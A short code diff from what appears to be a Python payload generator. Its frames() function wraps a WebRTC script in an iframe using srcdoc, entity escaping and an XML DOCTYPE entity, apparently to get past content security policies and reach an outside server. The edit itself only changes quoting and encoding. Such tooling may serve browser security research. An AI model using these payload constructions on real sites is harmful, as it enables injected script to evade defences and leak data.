@@ -85,10 +85,10 @@ def requests(to: Server) -> dict[str, str]:
 def frames(to: Server) -> dict[str, str]:
     """What no policy forbids, in a window of its own: WebRTC in a frame."""
     inner = webrtc(to)
-    dynamic, written = quoted(inner), json.dumps(json.dumps(inner)).replace("</", "<\\/")
+    dynamic = quoted(inner)
     code = inner.removeprefix("<script>").removesuffix("</script>").replace("'", "&#38;#34;").replace("=>", "=&#38;gt;")
     entity = (
-        '<!DOCTYPE x [<!ENTITY f "<iframe xmlns=\'http://www.w3.org/1999/xhtml\' '
+        "<!DOCTYPE x [<!ENTITY f \"<iframe xmlns='http://www.w3.org/1999/xhtml' "
         f"src&#100;oc='&#38;lt;script&#38;gt;{code}&#38;lt;/script&#38;gt;'/>\">]><x>&f;</x>"
     )
     made = "const f = document.createElement('iframe');"
